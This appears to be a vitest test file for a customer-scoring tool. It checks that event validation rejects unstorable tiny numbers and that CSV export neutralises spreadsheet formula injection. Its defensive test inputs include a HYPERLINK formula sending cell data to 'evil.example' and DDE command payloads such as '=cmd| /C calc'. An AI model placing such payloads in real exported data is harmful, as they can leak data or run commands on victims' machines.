import { describe, expect, it } from 'vitest';
import { scoresCsv } from '../../cli/commands/score.ts';
import { csvText } from '../../model/csv.ts';
import { validateEvent } from '../../model/events/validate.ts';
import { matrixCsvHeader, matrixToCsvRows } from '../../model/features/exportCsv.ts';
import type { FeatureMatrix } from '../../model/features/matrix.ts';
import type { ScoredCustomer } from '../../model/scoring.ts';

/**
 * Two bad inputs that used to get through: a number DynamoDB cannot store (underflow), which
 * failed its batch with a 503 on every re-send, and profile text that a spreadsheet evaluates.
 */

const envelope = { eventId: 'e-1', customerId: 'c-1', occurredAt: '2026-03-01T10:00:00Z' };

describe('numbers DynamoDB cannot store', () => {
  it.each([
    ['session_started', { durationSeconds: 1e-200 }, 'properties.durationSeconds', 'durationSeconds'],
    ['feature_used', { feature: 'export', quantity: 5e-324 }, 'properties.quantity', 'quantity'],
    ['custom', { name: 'seats', quantity: 1e-131 }, 'properties.quantity', 'quantity'],
  ])('%s with %j is rejected on its own, naming the field', (type, properties, path, field) => {
    const result = validateEvent({ ...envelope, type, properties }, 3);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.rejection.index).toBe(3);
    expect(result.rejection.errors).toEqual([
      { path, message: `${field} must be 0 or at least 1e-130 (smaller numbers cannot be stored)` },
    ]);
  });

  it('accepts 0 and the smallest storable magnitude', () => {
    expect(validateEvent({ ...envelope, type: 'session_started', properties: { durationSeconds: 0 } }, 0).ok).toBe(true);
    expect(validateEvent({ ...envelope, type: 'feature_used', properties: { feature: 'x', quantity: 1e-130 } }, 0).ok).toBe(true);
  });
});

describe('CSV cells that a spreadsheet would evaluate (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+2', "'+1+2"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tleading tab', "'\tleading tab"],
    ['\rleading CR', `"'\rleading CR"`],
    ['plain text', 'plain text'],
    ['a=b', 'a=b'],
  ])('%j is written as %j', (cell, written) => {
    expect(csvText(cell)).toBe(written);
  });

  it('score --out neutralises driver sentences, ids and the model version', () => {
    const customer: ScoredCustomer = {
      customerId: '-1+1',
      risk: 0.5,
      band: 'high',
      drivers: [{ feature: 'profile.segment', family: 'profile', value: 1, sentence: '=HYPERLINK("http://x")', contribution: 1 }],
      modelVersion: 'm-1',
      mrrCents: 100,
      tenureDays: 10,
    };
    expect(scoresCsv([customer]).split('\n')[1]).toBe(`'-1+1,0.500000,high,"'=HYPERLINK(""http://x"")",,,m-1`);
  });

  it('features --out neutralises category values from profiles, and keeps negative numbers as numbers', () => {
    const matrix: FeatureMatrix = {
      cutoff: '2026-06-01T00:00:00.000Z',
      customerIds: ['c-1'],
      numericColumns: [{ kind: 'numeric', name: 'value.trend', family: 'value', description: 'd' }],
      categoricalColumns: [
        { kind: 'categorical', name: 'profile.industry', family: 'profile', description: 'd', categories: ['=cmd|calc', 'retail'] },
      ],
      numeric: Float64Array.from([-2.5]),
      categorical: Int32Array.from([0]),
      labels: Int8Array.from([-1]),
      mrrCents: Float64Array.from([100]),
    };
    expect(matrixCsvHeader(matrix)).toBe('customerId,value.trend,profile.industry,mrrCents,label');
    expect([...matrixToCsvRows(matrix)]).toEqual(["c-1,-2.5,'=cmd|calc,100,"]);
  });
});
